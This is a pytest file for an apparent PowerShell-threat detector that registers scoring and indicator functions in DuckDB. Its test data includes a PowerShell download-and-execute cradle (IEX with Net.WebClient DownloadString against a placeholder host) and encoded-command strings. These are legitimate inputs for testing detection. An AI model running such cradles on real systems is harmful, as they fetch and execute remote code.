"""Detections as DuckDB functions: same scores as Python, NULL-safe, odd input never fails."""

from __future__ import annotations

import math
from collections.abc import Callable
from typing import Any

import duckdb
import numpy as np
import pytest

from vigil.engines import duckdb as duckdb_engine
from vigil.runtime import BUILTIN_DETECTIONS, BoundDetection
from vigil.store import Store

PublishModel = Callable[..., Any]
MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"


@pytest.fixture
def bound(store: Store, publish_model: PublishModel) -> BoundDetection:
    publish_model()
    return BUILTIN_DETECTIONS["powershell"].bind(store)


@pytest.fixture
def con(bound: BoundDetection) -> duckdb.DuckDBPyConnection:
    connection = duckdb.connect()
    duckdb_engine.register(connection, [bound])
    return connection


def test_sql_scores_equal_python_scores_across_many_chunks(
    con: duckdb.DuckDBPyConnection, bound: BoundDetection
) -> None:
    con.sql(
        """create table events as select i, case when i % 97 = 0 then null
           when i % 5 = 0 then 'iex (iwr http://h' || i || ')'
           else 'Get-Service svc' || i end as cmd from range(10000) t(i)"""
    )
    rows = con.sql("select i, cmd, vigil_powershell_score(cmd) from events order by i").fetchall()
    python = bound.score([r[1] for r in rows])
    for (_, cmd, sql_score), py_score in zip(rows, python, strict=True):
        if cmd is None:
            assert sql_score is None
        else:
            assert sql_score == pytest.approx(py_score, abs=1e-12)


def test_indicators_function_returns_a_varchar_list(con: duckdb.DuckDBPyConnection) -> None:
    ((iocs,),) = con.execute("select vigil_powershell_iocs(?)", [MALICIOUS]).fetchall()
    assert {"iex", "downloadstring", "net.webclient"} <= set(iocs)
    assert con.sql("select vigil_powershell_iocs(NULL::VARCHAR)").fetchall() == [(None,)]
    assert con.sql("select typeof(vigil_powershell_iocs('x'))").fetchall() == [("VARCHAR[]",)]


@pytest.mark.parametrize(
    "value",
    [
        "",
        " ",
        "A" * 1_000_000,
        "iex " * 250_000,
        "Ünïcödé 中文 🙂 " * 100,
        "powershell -enc !!!notbase64!!!",
        "powershell -enc " + "QUFB" * 10_000,
        "\x00\x01\x02\x7f",
        "'" * 5000 + "+" * 5000,
    ],
    ids=[
        "empty",
        "space",
        "1MB",
        "1MB-iocs",
        "non-ascii",
        "bad-base64",
        "big-binary-payload",
        "control",
        "quotes",
    ],
)
def test_odd_input_gives_a_defined_score_never_a_failed_query(
    con: duckdb.DuckDBPyConnection, value: str
) -> None:
    ((score,),) = con.execute("select vigil_powershell_score(?)", [value]).fetchall()
    assert score is not None
    assert 0.0 <= score <= 1.0
    assert not math.isnan(score)


def test_blob_input_cast_to_varchar_is_scored(con: duckdb.DuckDBPyConnection) -> None:
    ((score,),) = con.sql(
        "select vigil_powershell_score(cast('\\xFF\\xFE'::BLOB as VARCHAR))"
    ).fetchall()
    assert score is not None


def test_running_connection_picks_up_a_promoted_model_on_its_next_query(
    con: duckdb.DuckDBPyConnection, store: Store, publish_model: PublishModel
) -> None:
    query = "select vigil_powershell_score('Get-Service w32time')"
    ((before,),) = con.sql(query).fetchall()
    newer = publish_model(bias=4.0, alias=None)
    store.promote("powershell", newer.version)
    ((after,),) = con.sql(query).fetchall()
    assert before < 0.1
    assert after > 0.9
    store.rollback("powershell")
    ((rolled_back,),) = con.sql(query).fetchall()
    assert rolled_back == pytest.approx(before)


def test_lines_repeated_across_chunks_are_scored_once_per_connection(
    store: Store, publish_model: PublishModel
) -> None:
    publish_model()
    bound = BUILTIN_DETECTIONS["powershell"].bind(store)
    connection = duckdb.connect()
    connection.execute("SET threads = 1")
    duckdb_engine.register(connection, [bound])
    connection.sql(
        "create table log as select 'Get-Service svc' || (i % 50) as cmd from range(20000) t(i)"
    )
    rows = connection.sql("select cmd, vigil_powershell_score(cmd) from log").fetchall()
    assert bound.memo_stats.misses == 50
    assert bound.memo_stats.hits >= 50 * (20000 // 2048 - 1)
    unmemoized = BUILTIN_DETECTIONS["powershell"].bind(store, memo_size=0)
    expected = unmemoized.score([r[0] for r in rows])
    np.testing.assert_allclose([r[1] for r in rows], expected, rtol=0, atol=1e-12)


def test_registering_twice_replaces_the_functions(
    con: duckdb.DuckDBPyConnection, bound: BoundDetection
) -> None:
    names = duckdb_engine.register(con, [bound])
    assert names == ["vigil_powershell_score", "vigil_powershell_iocs"]
    assert con.sql("select vigil_powershell_score('x')").fetchall()[0][0] is not None


def test_scores_are_a_numpy_float_column(con: duckdb.DuckDBPyConnection) -> None:
    table = con.sql(
        "select vigil_powershell_score(s) s from (values ('a'), (NULL)) t(s)"
    ).to_arrow_table()
    column = table.column("s")
    assert column.null_count == 1
    assert np.isfinite(column.to_numpy(zero_copy_only=False)[0])
